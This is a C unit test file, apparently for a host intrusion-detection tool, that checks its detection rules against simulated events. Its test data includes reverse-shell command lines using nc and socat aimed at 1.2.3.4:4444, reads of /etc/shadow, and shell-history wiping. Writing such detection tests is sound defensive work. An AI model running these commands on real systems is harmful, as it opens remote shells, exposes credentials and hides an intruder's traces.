// SPDX-License-Identifier: Apache-2.0
/* vigil's bundled rules (rules/vigil_rules.yaml): load, and fire on what they describe. */
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "test_rules_util.h"

static struct vgl_ruleset *rs;

static int setup(void **state)
{
	const char *src = getenv("VIGIL_SOURCE_DIR");
	char path[1024];
	const char *files[1] = { path };
	struct vgl_diag d;

	(void)state;
	if (src) {
		snprintf(path, sizeof(path), "%s/rules/vigil_rules.yaml", src);
	} else {
		snprintf(path, sizeof(path), "%s", __FILE__);
		*strrchr(path, '/') = '\0';
		strcat(path, "/../../rules/vigil_rules.yaml");
	}
	vgl_diag_init(&d);
	if (vgl_ruleset_load(files, 1, NULL, &rs, &d))
		diag_dump(&d);
	/* No warnings either: every evt.type is one vigil captures. */
	if (d.n)
		diag_dump(&d);
	assert_int_equal(d.n, 0);
	vgl_diag_free(&d);
	return rs ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	vgl_ruleset_free(rs);
	return 0;
}

static bool fires(const struct tev *t, const char *rule)
{
	struct hits h;

	eval_hits(rs, &t->ev, NULL, NULL, &h);
	return hits_has(&h, rule);
}

static void test_files(void **state)
{
	struct tev t;

	(void)state;
	tev_open(&t, "vim", "/etc/ld.so.preload", O_WRONLY | O_CREAT, 3);
	assert_true(fires(&t, "Write below etc"));
	tev_open(&t, "dpkg", "/etc/ld.so.preload", O_WRONLY | O_CREAT, 3);
	assert_false(fires(&t, "Write below etc"));
	tev_open(&t, "vim", "/etc/hosts", O_RDONLY, 3);
	assert_false(fires(&t, "Write below etc"));
	tev_open(&t, "python3", "/etc/shadow", O_RDONLY, 3);
	assert_true(fires(&t, "Read sensitive file"));
	tev_open(&t, "sshd", "/etc/shadow", O_RDONLY, 3);
	assert_false(fires(&t, "Read sensitive file"));
	tev_open(&t, "python3", "/etc/shadow", O_RDONLY, -13);
	assert_false(fires(&t, "Read sensitive file"));
	tev_open(&t, "bash", "/root/.bash_history", O_WRONLY | O_TRUNC, 3);
	assert_true(fires(&t, "Shell history tampered"));
	tev_init(&t, VGL_EV_UNLINKAT, "rm", 10, 0);
	tev_str(&t, "name", "/home/u/.zsh_history");
	assert_true(fires(&t, "Shell history tampered"));
}

static void test_processes(void **state)
{
	struct tev t;

	(void)state;
	tev_exec(&t, "x", "/memfd:evil (deleted)", "x");
	assert_true(fires(&t, "Execution from memfd"));
	tev_exec(&t, "nc", "/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 4444");
	assert_true(fires(&t, "Netcat reverse shell"));
	tev_exec(&t, "socat", "/usr/bin/socat", "socat tcp:1.2.3.4:4444 exec:/bin/sh");
	assert_true(fires(&t, "Netcat reverse shell"));
	tev_exec(&t, "nc", "/usr/bin/nc", "nc -zv host 22");
	assert_false(fires(&t, "Netcat reverse shell"));
	tev_exec(&t, "x", "/tmp/x", "./x");
	assert_true(fires(&t, "Execution from temporary directory"));
	tev_exec(&t, "x", "/tmpfoo/x", "./x");
	assert_false(fires(&t, "Execution from temporary directory"));
	/* Without the container tracker no event is "in a container". */
	tev_exec(&t, "bash", "/bin/bash", "bash");
	assert_false(fires(&t, "Shell in container"));
}

static void test_privilege(void **state)
{
	struct tev t;

	(void)state;
	tev_init(&t, VGL_EV_SETUID, "exploit", 10, 0);
	t.ev.hdr.euid = t.ev.hdr.uid = 0;
	tev_num(&t, "uid", 0);
	tev_num(&t, "old_uid", 1000);
	tev_num(&t, "old_euid", 1000);
	assert_true(fires(&t, "Setuid to root by non-root"));
	tev_num(&t, "old_euid", 0);
	assert_false(fires(&t, "Setuid to root by non-root"));
	tev_init(&t, VGL_EV_PTRACE, "inject", 10, 0);
	tev_num(&t, "request", 16); /* PTRACE_ATTACH */
	tev_num(&t, "pid", 1);
	assert_true(fires(&t, "Ptrace attach"));
	memcpy(t.ev.hdr.comm, "gdb", 4);
	assert_false(fires(&t, "Ptrace attach"));
	tev_init(&t, VGL_EV_FINIT_MODULE, "evil", 10, 0);
	tev_num(&t, "fd", 3);
	assert_true(fires(&t, "Kernel module loaded"));
	memcpy(t.ev.hdr.comm, "modprobe", 9);
	assert_false(fires(&t, "Kernel module loaded"));
	tev_init(&t, VGL_EV_BPF, "loader", 10, 7);
	tev_num(&t, "cmd", 5); /* BPF_PROG_LOAD */
	assert_true(fires(&t, "BPF program loaded"));
	tev_init(&t, VGL_EV_UNSHARE, "evil", 10, 0);
	tev_num(&t, "flags", 0x10000000); /* CLONE_NEWUSER */
	assert_true(fires(&t, "Namespace change by unexpected program"));
}

static void test_network(void **state)
{
	struct tev t;

	(void)state;
	tev_init(&t, VGL_EV_CONNECT, "bash", 10, 0);
	tev_num(&t, "fd", 3);
	tev_sa(&t, "addr", "203.0.113.7", 4444);
	tev_sa(&t, "laddr", "10.0.0.2", 40000);
	assert_true(fires(&t, "Shell connected to remote host"));
	tev_sa(&t, "addr", "127.0.0.1", 4444);
	assert_false(fires(&t, "Shell connected to remote host"));
	tev_init(&t, VGL_EV_SOCKET, "tcpdump", 10, 3);
	tev_num(&t, "domain", 17); /* AF_PACKET */
	assert_true(fires(&t, "Packet socket created"));
	tev_num(&t, "domain", 2);
	assert_false(fires(&t, "Packet socket created"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_files),
		cmocka_unit_test(test_processes),
		cmocka_unit_test(test_privilege),
		cmocka_unit_test(test_network),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
